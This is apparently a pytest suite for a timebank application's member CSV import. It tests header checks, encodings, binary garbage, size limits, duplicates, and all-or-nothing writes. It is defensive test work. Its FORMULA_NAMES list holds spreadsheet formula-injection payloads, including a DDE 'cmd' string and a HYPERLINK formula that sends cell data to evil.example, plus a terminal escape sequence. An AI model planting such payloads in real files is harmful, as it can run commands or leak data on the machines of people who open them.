"""Member import under attack: wrong columns, odd encodings, garbage, duplicates, huge files,
formula-like names, and failures on the last row. An import lands whole or not at all.

Names that look like spreadsheet formulas (``=cmd|' /C calc'!A0``, ``+1+1``, ``@SUM(A1)``) are
people's names as far as the ledger knows: stored and answered exactly. There is no CSV export
yet; when there is, it must neutralise such cells (e.g. prefix them with a single quote).
"""

import csv
import datetime as dt
import io
from pathlib import Path

import httpx
import pytest
from click.testing import Result
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import func, select

from tests.api.conftest import ApiOrg
from tests.conftest import Org, today
from tests.hostile.conftest import run_command
from timebank.db import Database
from timebank.ledger import errors
from timebank.members.importer import (
    MAX_FILE_BYTES,
    MAX_ROWS,
    ImportFileError,
    count_members,
    import_members,
    parse_member_csv,
)
from timebank.models import Transaction

FORMULA_NAMES = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "=1+2",
    '"quoted" name, with comma',
]


def csv_file(*rows: list[str], encoding: str = "utf-8") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def names(content: bytes) -> list[str]:
    return [row.display_name for row in parse_member_csv(content).rows]


# --- Reading the file ----------------------------------------------------------------------


class TestTheHeader:
    @pytest.mark.parametrize(
        ("content", "words"),
        [
            (b"", "header"),
            (b"Alice Smith,alice@example.org\r\n", "header"),
            (b"name,email\r\nAlice,a@example.org\r\n", "display_name"),
            (b"display_name,phone\r\nAlice,0123\r\n", "unknown column"),
            (b"display_name,display_name\r\nAlice,Bob\r\n", "twice"),
            (b"display_name,,email\r\nAlice,,a@example.org\r\n", "blank"),
        ],
        ids=["empty", "no-header", "no-display-name", "unknown-column", "column-twice", "blank-column"],
    )
    def test_a_wrong_header_refuses_the_whole_file_saying_why(self, content: bytes, words: str) -> None:
        with pytest.raises(ImportFileError, match=words):
            parse_member_csv(content)

    def test_column_names_ignore_case_spacing_and_order(self) -> None:
        parsed = parse_member_csv(b" Email , DISPLAY_NAME \r\na@example.org,Alice Smith\r\n")
        assert [(r.display_name, r.email) for r in parsed.rows] == [("Alice Smith", "a@example.org")]


class TestEncodings:
    NAMES = ["Zoë Brontë", "José Núñez", "Œdipe \u2013 café"]

    def test_utf8_with_a_byte_order_mark(self) -> None:
        parsed = parse_member_csv(b"\xef\xbb\xbf" + csv_file(["display_name"], *[[n] for n in self.NAMES]))
        assert [r.display_name for r in parsed.rows] == self.NAMES
        assert parsed.encoding == "utf-8"

    def test_windows_1252_as_excel_saves_it(self) -> None:
        parsed = parse_member_csv(csv_file(["display_name"], *[[n] for n in self.NAMES], encoding="cp1252"))
        assert [r.display_name for r in parsed.rows] == self.NAMES
        assert parsed.encoding == "windows-1252"

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
    def test_utf16_is_read_if_it_says_so_and_refused_clearly_if_not(self, encoding: str) -> None:
        content = csv_file(["display_name"], *[[n] for n in self.NAMES], encoding=encoding)
        if encoding == "utf-16":  # with a byte order mark, as Windows writes it
            assert names(content) == self.NAMES
        else:
            with pytest.raises(ImportFileError, match="UTF-8"):
                parse_member_csv(content)

    @pytest.mark.parametrize(
        "content",
        [
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10",
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03display_name",
            b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00",  # an .xlsx is a zip file
            b"display_name\r\nAl\x00ice\r\n",
            bytes(range(256)),
        ],
        ids=["png", "gzip", "xlsx", "nul", "every-byte"],
    )
    def test_binary_files_are_refused_as_a_whole(self, content: bytes) -> None:
        with pytest.raises(ImportFileError):
            parse_member_csv(content)

    @settings(max_examples=200, deadline=None)
    @given(content=st.one_of(st.binary(max_size=300), st.binary(max_size=300).map(lambda b: b"display_name\r\n" + b)))
    def test_any_bytes_are_refused_or_read_into_clean_names(self, content: bytes) -> None:
        try:
            parsed = parse_member_csv(content)
        except ImportFileError as exc:
            assert str(exc)
            return
        for row in parsed.rows:
            assert row.display_name and row.display_name == " ".join(row.display_name.split())
            assert not any(ch < " " for ch in row.display_name), row


class TestRows:
    def test_a_row_with_more_cells_than_the_header_is_rejected(self) -> None:
        parsed = parse_member_csv(csv_file(["display_name", "email"], ["Alice", "a@example.org", "surprise"], ["Bob"]))
        assert [r.display_name for r in parsed.rows] == ["Bob"]
        assert [(r.line, "more cells" in r.reason) for r in parsed.rejected] == [(2, True)]

    def test_a_name_twice_in_the_file_is_rejected_the_second_time_whatever_its_case_and_spacing(self) -> None:
        parsed = parse_member_csv(csv_file(["display_name"], ["Alice Smith"], ["Bob"], ["  ALICE   smith "]))
        assert [r.display_name for r in parsed.rows] == ["Alice Smith", "Bob"]
        assert [(r.line, "line 2" in r.reason) for r in parsed.rejected] == [(4, True)]

    @pytest.mark.parametrize("name", ["Al\x01ice", "Bob\x1b[2J", "Mallory\x08\x08"])
    def test_a_name_with_control_characters_is_rejected(self, name: str) -> None:
        parsed = parse_member_csv(csv_file(["display_name"], [name], ["Bob"]))
        assert [r.display_name for r in parsed.rows] == ["Bob"]
        assert [r.line for r in parsed.rejected] == [2]

    def test_a_cell_beyond_what_csv_reads_refuses_the_file_saying_where(self) -> None:
        with pytest.raises(ImportFileError, match="line"):
            parse_member_csv(b"display_name\r\nAlice\r\n" + b"x" * 200_000 + b"\r\n")

    def test_formula_like_names_are_read_exactly_as_text(self) -> None:
        assert names(csv_file(["display_name"], *[[n] for n in FORMULA_NAMES])) == FORMULA_NAMES

    @settings(max_examples=100, deadline=None)
    @given(
        st.lists(
            st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=12), max_size=3),
            max_size=8,
        )
    )
    def test_any_cells_are_read_exactly_or_rejected_by_line(self, rows: list[list[str]]) -> None:
        parsed = parse_member_csv(csv_file(["display_name", "email", "role"], *rows))
        by_line = {row.line: row for row in parsed.rows}
        assert not set(by_line) & {r.line for r in parsed.rejected}
        for line, row in by_line.items():
            cells = rows[line - 2]
            assert row.display_name == " ".join(cells[0].split())


class TestSizeLimits:
    def test_a_file_over_the_size_limit_is_refused_before_reading_it(self) -> None:
        with pytest.raises(ImportFileError, match="larger than 5 MB"):
            parse_member_csv(b"display_name\r\n" + b"A\r\n" * (MAX_FILE_BYTES // 3 + 1))

    def test_a_file_over_the_row_limit_is_refused(self) -> None:
        assert len(names(csv_file(["display_name"], *[[f"Member {i}"] for i in range(MAX_ROWS)]))) == MAX_ROWS
        with pytest.raises(ImportFileError, match="10,000 rows"):
            parse_member_csv(csv_file(["display_name"], *[[f"Member {i}"] for i in range(MAX_ROWS + 1)]))


# --- Writing it ----------------------------------------------------------------------------


async def member_names(db: Database, org: Org) -> list[str]:
    from timebank.models import Member

    async with db.session() as session:
        rows = await session.exec(select(Member.display_name).where(Member.organisation_id == org.id))
        return sorted(rows.all())


async def transaction_count(db: Database, org: Org) -> int:
    async with db.session() as session:
        query = select(func.count()).select_from(Transaction).where(Transaction.organisation_id == org.id)
        return (await session.exec(query)).one()


class TestImportMembers:
    async def test_formula_like_names_are_stored_and_answered_by_the_api_unchanged(
        self, client: httpx.AsyncClient, db: Database, api_org: ApiOrg
    ) -> None:
        parsed = parse_member_csv(csv_file(["display_name"], *[[n] for n in FORMULA_NAMES]))
        await import_members(db, api_org.id, parsed)
        response = await client.get(api_org.url("/members?limit=200"), headers=api_org.staff.headers)
        answered = {m["display_name"]: m for m in response.json()["items"]}
        assert set(FORMULA_NAMES) <= set(answered)
        for name in FORMULA_NAMES:
            one = await client.get(api_org.url(f"/members/{answered[name]['id']}"), headers=api_org.staff.headers)
            assert one.json()["display_name"] == name
            assert one.headers["content-type"].startswith("application/json")

    async def test_a_name_already_in_the_organisation_refuses_the_whole_import(self, db: Database, org: Org) -> None:
        await import_members(db, org.id, parse_member_csv(csv_file(["display_name"], ["Alice Smith"])))
        before = await member_names(db, org)
        parsed = parse_member_csv(csv_file(["display_name"], ["Bob"], ["Carol"], ["alice  SMITH"]))
        with pytest.raises(errors.LedgerConflict, match="line 4"):
            await import_members(db, org.id, parsed)
        assert await member_names(db, org) == before

    @pytest.mark.parametrize(
        ("last_row", "words"),
        [
            (["Zed", "-3", ""], "below the minimum"),  # the organisation's minimum is -2 hours
            (["Zed", "10000.25", ""], "10,000 hours"),
            (["Zed", "1", "2999-01-01"], "future"),
        ],
        ids=["below-minimum", "too-many-hours", "future-opening-balance"],
    )
    async def test_a_failure_on_the_last_row_leaves_no_member_of_the_file_behind(
        self, db: Database, org: Org, last_row: list[str], words: str
    ) -> None:
        rows = [["Ann", "5", ""], ["Ben", "-1.5", ""], ["Cat", "", ""], last_row]
        parsed = parse_member_csv(csv_file(["display_name", "opening_balance_hours", "joined_on"], *rows))
        assert not parsed.rejected
        with pytest.raises(errors.LedgerError, match=words) as refused:
            await import_members(db, org.id, parsed)
        assert "line 5" in refused.value.message
        assert await member_names(db, org) == []
        assert await transaction_count(db, org) == 0


# --- The command line ----------------------------------------------------------------------


async def run_import(path: Path, slug: str, *options: str) -> Result:
    return await run_command("member", "import", str(path), "--org", slug, *options)


def write(tmp_path: Path, content: bytes) -> Path:
    path = tmp_path / "members.csv"
    path.write_bytes(content)
    return path


@pytest.mark.usefixtures("cli_database")
class TestTheImportCommand:
    async def test_a_rejected_row_imports_nothing_and_says_which_line(self, tmp_path, db, org) -> None:
        path = write(tmp_path, csv_file(["display_name", "email"], ["Ann", ""], ["Ben", "not-an-email"], ["Cat", ""]))
        result = await run_import(path, org.slug)
        assert result.exit_code == 1, result.output
        assert "Nothing was imported" in result.output and "not-an-email" in result.output
        assert await member_names(db, org) == []

    async def test_skip_invalid_imports_the_rest(self, tmp_path, db, org) -> None:
        path = write(tmp_path, csv_file(["display_name", "email"], ["Ann", ""], ["Ben", "not-an-email"], ["Cat", ""]))
        result = await run_import(path, org.slug, "--skip-invalid")
        assert result.exit_code == 0, result.output
        assert "Imported 2 member(s)" in result.output and "1 row(s) rejected" in result.output
        assert await member_names(db, org) == ["Ann", "Cat"]

    @pytest.mark.parametrize(
        ("content", "words"),
        [
            (b"display_name\r\n" + b"Somebody\r\n" * (MAX_FILE_BYTES // 10 + 1), "larger than 5 MB"),
            (csv_file(["display_name"], *[[f"M{i}"] for i in range(MAX_ROWS + 1)]), "more than 10,000 rows"),
            (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10", "UTF-8"),
            (b"name,email\r\nAnn,a@example.org\r\n", "display_name"),
        ],
        ids=["too-large", "too-many-rows", "binary", "wrong-columns"],
    )
    async def test_a_file_it_cannot_read_is_refused_with_a_clear_message(
        self, tmp_path, db, org, content, words
    ) -> None:
        result = await run_import(write(tmp_path, content), org.slug)
        assert result.exit_code == 1, result.output
        assert "Cannot import members.csv" in result.output and words in " ".join(result.output.split())
        assert isinstance(result.exception, SystemExit)  # a message, not a traceback
        assert await member_names(db, org) == []

    async def test_a_refusal_while_writing_leaves_nothing_behind(self, tmp_path, db, org) -> None:
        rows = [["Ann", "5"], ["Ben", "1"], ["Cat", "-3"]]  # the minimum is -2 hours
        result = await run_import(write(tmp_path, csv_file(["display_name", "opening_balance_hours"], *rows)), org.slug)
        assert result.exit_code == 1, result.output
        assert "Refused" in result.output and "line 4" in result.output
        assert isinstance(result.exception, SystemExit)
        assert await member_names(db, org) == []
        assert await transaction_count(db, org) == 0

    async def test_encodings_are_read_and_named(self, tmp_path, db, org) -> None:
        windows = write(tmp_path, csv_file(["display_name"], ["Zoë Brontë"], encoding="cp1252"))
        result = await run_import(windows, org.slug)
        assert result.exit_code == 0, result.output
        assert "read as windows-1252" in result.output
        utf16 = write(tmp_path, csv_file(["display_name"], ["José Núñez"], encoding="utf-16"))
        assert (await run_import(utf16, org.slug)).exit_code == 0
        assert await member_names(db, org) == ["José Núñez", "Zoë Brontë"]

    async def test_an_unknown_organisation_is_refused(self, tmp_path, org) -> None:
        result = await run_import(write(tmp_path, csv_file(["display_name"], ["Ann"])), f"no-{org.slug}")
        assert result.exit_code == 1, result.output
        assert "Refused" in result.output

    async def test_opening_balances_are_exact(self, tmp_path, db, org) -> None:
        rows = [["Ann", "1.25", today().isoformat()], ["Ben", "-0.05", (today() - dt.timedelta(days=400)).isoformat()]]
        content = csv_file(["display_name", "opening_balance_hours", "joined_on"], *rows)
        result = await run_import(write(tmp_path, content), org.slug)
        assert result.exit_code == 0, result.output
        assert await transaction_count(db, org) == 2
        assert await count_members(db, org.id) == 2
